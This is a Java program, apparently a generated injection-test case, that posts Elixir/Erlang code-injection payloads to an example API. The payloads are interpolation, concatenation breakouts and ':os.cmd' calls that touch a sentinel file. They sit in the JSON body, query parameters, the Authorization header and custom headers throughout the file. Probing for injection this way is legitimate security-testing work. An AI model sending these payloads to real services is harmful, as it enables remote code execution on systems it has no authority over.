import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

public class Request {
    public static void main(String[] args) throws IOException, InterruptedException {
        String body = """
            {
              "values": [
                "#{File.touch!(\\"SENTINEL_PATH\\")}",
                "\\\\#{File.touch!(\\"SENTINEL_PATH\\")}",
                "\\" <> File.touch!(\\"SENTINEL_PATH\\") <> \\"",
                "'; :os.cmd('touch SENTINEL_PATH'); '",
                "\\\\\\" <> :os.cmd(~c\\"touch SENTINEL_PATH\\") <> \\\\\\""
              ],
              "keys": {
                "#{File.touch!(\\"SENTINEL_PATH\\")}": 0,
                "\\\\#{File.touch!(\\"SENTINEL_PATH\\")}": 1,
                "\\" <> File.touch!(\\"SENTINEL_PATH\\") <> \\"": 2,
                "'; :os.cmd('touch SENTINEL_PATH'); '": 3,
                "\\\\\\" <> :os.cmd(~c\\"touch SENTINEL_PATH\\") <> \\\\\\"": 4
              },
              "nested": {
                "deeper": [
                  {
                    "text": "#{File.touch!(\\"SENTINEL_PATH\\")} \\\\#{File.touch!(\\"SENTINEL_PATH\\")} \\" <> File.touch!(\\"SENTINEL_PATH\\") <> \\" '; :os.cmd('touch SENTINEL_PATH'); ' \\\\\\" <> :os.cmd(~c\\"touch SENTINEL_PATH\\") <> \\\\\\""
                  }
                ]
              }
            }
            """;

        HttpRequest request = HttpRequest.newBuilder()
            .uri(URI.create("https://api.example.com/v1/payloads?value0=%23%7BFile.touch%21%28%22SENTINEL_PATH%22%29%7D&%23%7BFile.touch%21%28%22SENTINEL_PATH%22%29%7D=key0&value1=%5C%23%7BFile.touch%21%28%22SENTINEL_PATH%22%29%7D&%5C%23%7BFile.touch%21%28%22SENTINEL_PATH%22%29%7D=key1&value2=%22%20%3C%3E%20File.touch%21%28%22SENTINEL_PATH%22%29%20%3C%3E%20%22&%22%20%3C%3E%20File.touch%21%28%22SENTINEL_PATH%22%29%20%3C%3E%20%22=key2&value3=%27%3B%20%3Aos.cmd%28%27touch%20SENTINEL_PATH%27%29%3B%20%27&%27%3B%20%3Aos.cmd%28%27touch%20SENTINEL_PATH%27%29%3B%20%27=key3&value4=%5C%22%20%3C%3E%20%3Aos.cmd%28~c%22touch%20SENTINEL_PATH%22%29%20%3C%3E%20%5C%22&%5C%22%20%3C%3E%20%3Aos.cmd%28~c%22touch%20SENTINEL_PATH%22%29%20%3C%3E%20%5C%22=key4"))
            .header("Content-Type", "application/json")
            .header("Authorization", "Bearer #{File.touch!(\"SENTINEL_PATH\")}")
            .header("X-Payload-0", "#{File.touch!(\"SENTINEL_PATH\")}")
            .header("X-Payload-1", "\\#{File.touch!(\"SENTINEL_PATH\")}")
            .header("X-Payload-2", "\" <> File.touch!(\"SENTINEL_PATH\") <> \"")
            .header("X-Payload-3", "'; :os.cmd('touch SENTINEL_PATH'); '")
            .header("X-Payload-4", "\\\" <> :os.cmd(~c\"touch SENTINEL_PATH\") <> \\\"")
            .POST(HttpRequest.BodyPublishers.ofString(body))
            .build();

        HttpResponse<String> response = HttpClient.newHttpClient()
            .send(request, HttpResponse.BodyHandlers.ofString());
        System.out.println(response.body());
    }
}
